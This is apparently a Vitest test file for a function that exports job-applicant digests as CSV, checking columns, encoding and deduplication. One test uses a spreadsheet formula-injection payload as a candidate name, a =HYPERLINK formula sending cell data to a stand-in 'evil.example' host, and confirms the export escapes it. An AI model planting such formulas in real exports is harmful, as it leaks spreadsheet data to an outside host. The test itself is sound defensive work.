import { describe, expect, it } from 'vitest';
import { digestCsv } from '../../../../src/stages/digests/digest-csv.ts';
import { candidate, changed, vacancy } from './digest-fixtures.ts';

const WEIGHTS = { degree: 3, publications: 2, keywords: 1 };

function rowsOf(content: string): string[] {
  expect(content.startsWith('\uFEFF')).toBe(true);
  expect(content.endsWith('\r\n')).toBe(true);
  return content.slice(1, -2).split('\r\n');
}

describe('digestCsv', () => {
  it('lists every candidate of the vacancy with the documented columns, UTF-8 BOM and CRLF', () => {
    const csv = digestCsv(
      vacancy(
        'robust-ai',
        [changed(candidate('new', { name: 'Zoë Ünal' }), true, { degreeResult: 0.5, publications: 1 })],
        [
          candidate('old', {
            name: 'Doe, Jane',
            missing: ['transcript', 'reference'],
            flags: ['late', 'tag-variant'],
            firstSeen: '2026-11-01T09:00:00.000Z',
            decision: {
              status: 'declined',
              at: '2026-11-24T10:00:00.000Z',
              via: 'folder',
              folder: 'Applications/robust-ai/Declined',
              message: 'old-1',
            },
          }),
        ],
      ),
      WEIGHTS,
    );
    expect(csv?.filename).toBe('robust-ai-candidates.csv');
    expect(csv?.contentType).toBe('text/csv; charset=utf-8');
    expect(rowsOf(csv?.content ?? '')).toEqual([
      'id,name,email,first_seen,last_seen,documents,missing,complete,flags,messages,fit_score,folders,profile,topics,registration,status,references',
      'new,Zoë Ünal,new@example.org,2026-11-23T09:00:00.000Z,2026-11-23T09:00:00.000Z,cv,,yes,,1,1.9,Applications/robust-ai,,,,,',
      'old,"Doe, Jane",old@example.org,2026-11-01T09:00:00.000Z,2026-11-01T09:00:00.000Z,cv,transcript;reference,no,late;tag-variant,1,,Applications/robust-ai,,,,declined,',
    ]);
  });

  it('guards a =HYPERLINK(...) name against formula injection', () => {
    const evil = candidate('evil', { name: '=HYPERLINK("http://evil.example/?"&A1,"CV")' });
    const rows = rowsOf(digestCsv(vacancy('robust-ai', [changed(evil, true)]), WEIGHTS)?.content ?? '');
    expect(rows[1]).toBe(
      'evil,"\'=HYPERLINK(""http://evil.example/?""&A1,""CV"")",evil@example.org,2026-11-23T09:00:00.000Z,' +
        '2026-11-23T09:00:00.000Z,cv,,yes,,1,,Applications/robust-ai,,,,,',
    );
  });

  it("shows an enquirer's topics and each candidate's registration, formula-guarded", () => {
    const enquirer = candidate('enquirer', {
      messages: [
        {
          ...candidate('x').messages[0]!,
          match: 'topic',
          call: {
            topics: ['agentic workflows for medical image analysis'],
            programmes: ['DPhil in Engineering Science'],
          },
        },
      ],
    });
    const registrations = new Map([
      ['enquirer', 'registered (by name "=SUM(A1)", form line 3; address a@b.example)'],
    ]);
    const rows = rowsOf(
      digestCsv({ ...vacancy('medical-ai', [changed(enquirer, true)]), registrations }, WEIGHTS)?.content ??
        '',
    );
    expect(
      rows[1]?.endsWith(
        ',agentic workflows for medical image analysis;DPhil in Engineering Science,"registered (by name ""=SUM(A1)"", form line 3; address a@b.example)",,',
      ),
    ).toBe(true);
  });

  it('leaves out a vacancy with no candidates at all', () => {
    expect(digestCsv(vacancy('empty', []), WEIGHTS)).toBeNull();
  });

  it('lists a changed candidate missing from `all` once, and a candidate in both once', () => {
    const both = candidate('both');
    const input = vacancy('robust-ai', [changed(both, false)], [candidate('only-all')]);
    input.changed.push(changed(candidate('only-changed'), true));
    const rows = rowsOf(digestCsv(input, WEIGHTS)?.content ?? '');
    expect(rows.slice(1).map((row) => row.split(',')[0])).toEqual(
      ['both', 'only-all', 'only-changed'].sort(),
    );
  });
});
